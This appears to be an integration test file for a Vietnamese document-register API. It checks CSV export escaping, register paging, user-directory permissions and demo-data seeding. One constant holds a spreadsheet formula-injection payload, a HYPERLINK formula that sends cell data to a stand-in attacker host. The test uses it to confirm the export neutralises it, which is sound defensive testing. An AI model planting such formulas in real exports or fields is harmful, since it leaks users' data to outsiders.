import { randomUUID } from 'node:crypto';
import type { Connection } from 'mongoose';
import { baseEnvSchema, connectMongo, createLogger, loadConfig } from '@vanthu/shared';
import type { Principal } from '../../../src/app/ports';
import { prepareIntake } from '../../../src/prepare';
import { organisationModel } from '../../../src/records/organisations';
import { userModel } from '../../../src/records/users';
import { as, receiveCopy, startIntakeHarness, type IntakeHarness } from '../../support/harness';
import { makePdf } from '../../support/pdf';
import { parseCsv } from '../../unit/api/support/csv';
import { ADMIN, startApi, type TestApi } from '../../unit/api/support/api-server';

const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")';

describe('registers and the directory through the real API (real Temporal, MongoDB)', () => {
  let h: IntakeHarness;
  let api: TestApi;

  beforeAll(async () => {
    h = await startIntakeHarness();
    api = await startApi(h.app, { edge: { maxInFlight: 1000 } });
  }, 120_000);
  afterAll(async () => {
    await api?.close();
    await h?.stop();
  }, 60_000);

  it("escapes a formula in a recipient's incoming register", async () => {
    // The subject is typed at the sender; it reaches the recipient's register with the copy.
    const created = await h.app.createDraft(
      as.specialist,
      { type: 'NQ', subject: HYPERLINK, issuer: 'BS-TU', signer: { userId: 'bs-secretary', authority: 'T/M' }, approvers: [], recipients: ['BS-TL-DU'], urgency: 'normal', secrecy: 'none' },
      [{ field: 'content', filename: 'nq.pdf', declaredType: 'application/pdf', data: await makePdf('formula') }],
      { idempotencyKey: randomUUID() },
    );
    const arrivedAt = new Date().toISOString();
    await receiveCopy(h, created, 'BS-TL-DU', arrivedAt);
    const year = Number(arrivedAt.slice(0, 4));
    const response = await api.call(`/v1/registers/incoming?from=${year - 1}-12-31&to=${year + 1}-01-01&format=csv`, { as: as.tlClerk });
    expect(response.status).toBe(200);
    const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
    const subjectColumn = rows[0]?.indexOf('Trích yếu') ?? -1;
    expect(subjectColumn).toBeGreaterThanOrEqual(0);
    expect(rows.slice(1).map((row) => row[subjectColumn])).toEqual([`'${HYPERLINK}`]);
    // The JSON register is data for programs, not a spreadsheet: it keeps the subject as written.
    const json = (await (await api.call(`/v1/registers/incoming?from=${year - 1}-12-31&to=${year + 1}-01-01`, { as: as.tlClerk })).json()) as { items: Array<{ subject: string }> };
    expect(json.items.map((i) => i.subject)).toEqual([HYPERLINK]);
  });

  it('pages the incoming register from the lines in memory, each new copy on the next page loaded', async () => {
    type RegisterPage = { items: Array<{ id: string; arrivalNumber: number; subject: string }>; total: number };
    const pageOf = async (page: number): Promise<RegisterPage> => (await api.call(`/v1/registers/incoming?org=BS-HB-DU&page=${page}&pageSize=2`, { as: as.hbClerk })).json() as Promise<RegisterPage>;
    const ids: string[] = [];
    for (const n of [1, 2, 3]) {
      const created = await h.app.createDraft(
        as.specialist,
        { type: 'CV', subject: `Trang sổ ${n}`, issuer: 'BS-TU', signer: { userId: 'bs-secretary', authority: 'T/M' }, approvers: [], recipients: ['BS-HB-DU'], urgency: 'normal', secrecy: 'none' },
        [{ field: 'content', filename: 'cv.pdf', declaredType: 'application/pdf', data: await makePdf(`trang ${n}`) }],
        { idempotencyKey: randomUUID() },
      );
      ids.push(await receiveCopy(h, created, 'BS-HB-DU'));
      // Asked right after the activity registered it: no refresh period to wait out.
      expect((await pageOf(1)).total).toBe(n);
    }
    const [first, second] = [await pageOf(1), await pageOf(2)];
    expect(first.items.map((r) => r.id)).toEqual(ids.slice(0, 2));
    expect(second.items.map((r) => r.id)).toEqual(ids.slice(2));
    expect(first.items.map((r) => r.arrivalNumber)).toEqual([...first.items.map((r) => r.arrivalNumber)].sort((a, b) => a - b));
    // The page is the whole register's slice, read from the records.
    const whole = (await (await api.call('/v1/registers/incoming?org=BS-HB-DU', { as: as.hbClerk })).json()) as RegisterPage;
    expect([...first.items, ...second.items]).toEqual(whole.items);
  });

  describe('GET /v1/users', () => {
    type Listed = { id: string; org: string; email?: string };
    const list = async (path: string, who: Principal) => {
      const response = await api.call(path, { as: who });
      return { status: response.status, body: (await response.json()) as { items: Listed[]; reason?: string; field?: string } };
    };

    it("shows a specialist their own organisation's people, with no e-mail address but their own", async () => {
      const { status, body } = await list('/v1/users', as.specialist);
      expect(status).toBe(200);
      expect(body.items.length).toBeGreaterThan(1);
      expect(new Set(body.items.map((u) => u.org))).toEqual(new Set(['BS-TU']));
      expect(body.items.filter((u) => u.email !== undefined)).toEqual([expect.objectContaining({ id: 'bs-specialist', email: 'bs-specialist@demo.vanthu.local' })]);
    });

    it("refuses another organisation's list to a non-admin", async () => {
      const { status, body } = await list('/v1/users?org=BS-TL-DU', as.specialist);
      expect(status).toBe(403);
      expect(body).toMatchObject({ reason: 'forbidden', field: 'org' });
      expect((await list('/v1/users?org=BS-TU', as.tlClerk)).status).toBe(403);
      expect((await list('/v1/users?org=BS-TL-DU', as.tlClerk)).body.items.every((u) => u.org === 'BS-TL-DU')).toBe(true);
    });

    it('shows an admin everyone, with e-mail addresses, of one organisation if asked', async () => {
      const all = await list('/v1/users', ADMIN);
      expect(new Set(all.body.items.map((u) => u.org))).toEqual(new Set(['BS-TU', 'BS-TL-DU', 'BS-HB-DU', 'BS-TL-VP', 'BS-TL-XDD']));
      expect(all.body.items.every((u) => u.email?.endsWith('@demo.vanthu.local'))).toBe(true);
      const one = await list('/v1/users?org=BS-HB-DU', ADMIN);
      expect(one.body.items.map((u) => u.org)).toEqual(one.body.items.map(() => 'BS-HB-DU'));
      expect(one.body.items.length).toBeGreaterThan(0);
    });
  });
});

describe('demo data (VANTHU_DEMO_DATA), on the real database', () => {
  let mongo: Connection;
  const database = `vanthu_it_demo_${randomUUID().replace(/-/g, '').slice(0, 12)}`;

  beforeAll(async () => {
    mongo = await connectMongo({ url: loadConfig(baseEnvSchema, process.env).MONGO_URL, database, logger: createLogger({}, 'silent') });
  });
  afterAll(async () => {
    await mongo.dropDatabase();
    await mongo.close();
  });

  it('leaves a database without demo organisations and users when off, and seeds them when on', async () => {
    await prepareIntake({ mongo }, { demoData: false });
    expect(await organisationModel(mongo).countDocuments()).toBe(0);
    expect(await userModel(mongo).countDocuments()).toBe(0);
    await prepareIntake({ mongo }, { demoData: true });
    expect(await organisationModel(mongo).countDocuments({ _id: 'BS-TU' })).toBe(1);
    expect(await userModel(mongo).countDocuments({ _id: 'bs-specialist' })).toBe(1);
  });
});
